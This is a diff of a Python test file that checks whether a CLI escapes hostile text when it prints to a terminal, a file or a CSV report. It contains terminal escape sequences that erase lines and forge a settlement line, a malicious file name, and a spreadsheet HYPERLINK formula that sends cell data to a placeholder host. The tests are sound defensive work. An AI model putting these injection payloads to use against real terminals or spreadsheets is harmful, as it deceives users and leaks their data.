@@ -1,18 +1,19 @@
-"""Texts of others on a terminal, in a pipe and in a spreadsheet: they are shown, and obeyed by no program."""
+"""Texts of others on a terminal, in a file and in a spreadsheet: they are shown, and obeyed by no program."""
 
 import csv
 import json
 import os
 import pty
 import re
-import subprocess
+from concurrent.futures import ThreadPoolExecutor
+from contextlib import suppress
 from pathlib import Path
 from typing import Any, Final
 
 import pytest
 
 from controller.domain import UNFIT
-from tests.main.test_heads_witness import PROGRAM
+from tests.forked_process import command
 
 ERASES: Final = (
     "x)\u001b[1A\u001b[2K\u001b[1;31m\nround 1 settled 900.00\r\u0007\u0008\u009b2J\u202e71-D\u2028\u007f"
@@ -53,31 +54,32 @@ def hostile_feed(folder: Path) -> Path:
 
 def on_a_terminal(*arguments: str) -> str:
     """What a command writes to a real terminal, without its sign of progress on standard error."""
-    pid, terminal = pty.fork()
-    if not pid:
-        os.dup2(os.open(os.devnull, os.O_WRONLY), 2)
-        os.execv(PROGRAM[0], [*PROGRAM, *arguments])
-    said = b""
-    while True:
-        try:
-            part = os.read(terminal, 65536)
-        except OSError:
-            break
-        if not part:
-            break
-        said += part
-    os.waitpid(pid, 0)
+    terminal, far_end = pty.openpty()
+    with ThreadPoolExecutor(1) as aside:
+        said = aside.submit(_read_all, terminal)
+        command(*arguments, out=os.ttyname(far_end))
+        os.close(far_end)
+        shown = said.result(30).decode()
     os.close(terminal)
-    return said.decode()
+    return shown
 
 
-def into_a_pipe(*arguments: str) -> str:
-    done = subprocess.run((*PROGRAM, *arguments), capture_output=True, text=True, check=False)
+def _read_all(terminal: int) -> bytes:
+    """Read until the far end is closed everywhere, which a terminal tells by an error."""
+    said = b""
+    with suppress(OSError):
+        while part := os.read(terminal, 65536):
+            said += part
+    return said
+
+
+def into_a_file(*arguments: str) -> str:
+    done = command(*arguments)
     return done.stdout + done.stderr
 
 
 @pytest.mark.parametrize(
-    "command",
+    "words",
     [
         ("show", "{feed}", "--round", "1"),
         ("show", "{feed}", "--round", "1", "--table"),
@@ -93,14 +95,14 @@ def into_a_pipe(*arguments: str) -> str:
     ],
     ids=" ".join,
 )
-def test_no_command_prints_what_a_terminal_would_obey(tmp_path: Path, command: tuple[str, ...]) -> None:
+def test_no_command_prints_what_a_terminal_would_obey(tmp_path: Path, words: tuple[str, ...]) -> None:
     feed = str(hostile_feed(tmp_path))
-    arguments = [one.format(feed=feed) for one in command]
-    for said in (into_a_pipe(*arguments), OWN.sub("", on_a_terminal(*arguments)).replace("\r\n", "\n")):
+    arguments = [one.format(feed=feed) for one in words]
+    for said in (into_a_file(*arguments), OWN.sub("", on_a_terminal(*arguments)).replace("\r\n", "\n")):
         lines = said.split("\n")
         assert not [line for line in lines if UNFIT.search(line.replace("\t", ""))], said
         assert not [line for line in lines if line.startswith("round 1 settled 900.00")], said
-    if command[0] in ("show", "report") and "--table" not in command:
+    if words[0] in ("show", "report") and "--table" not in words:
         assert "\\u001b[1A" in said
 
 
@@ -108,7 +110,7 @@ def test_the_name_of_a_file_is_escaped_too(tmp_path: Path) -> None:
     feed = hostile_feed(tmp_path)
     odd = feed.rename(tmp_path / "a\u001b[2K\udce4.feed.jsonl")
     missing = str(odd.with_name("\u001bno"))
-    for said in (into_a_pipe("replay", str(odd)), into_a_pipe("show", missing, "--round", "1")):
+    for said in (into_a_file("replay", str(odd)), into_a_file("show", missing, "--round", "1")):
         assert not [line for line in said.split("\n") if UNFIT.search(line)], said
 
 
@@ -117,7 +119,7 @@ def test_a_cell_of_a_spreadsheet_is_no_formula(tmp_path: Path) -> None:
     formula = '=HYPERLINK("http://x/?"&A1)'
     feed.write_text(feed.read_text().replace(json.dumps(f"B{ERASES}"), json.dumps(formula)))
     out = tmp_path / "report.csv"
-    assert into_a_pipe("report", str(feed), "--out", str(out)) == ""
+    assert into_a_file("report", str(feed), "--out", str(out)) == ""
     with out.open(newline="") as file:
         (row,) = csv.DictReader(file)
     assert row["table"] == f"'{formula}"
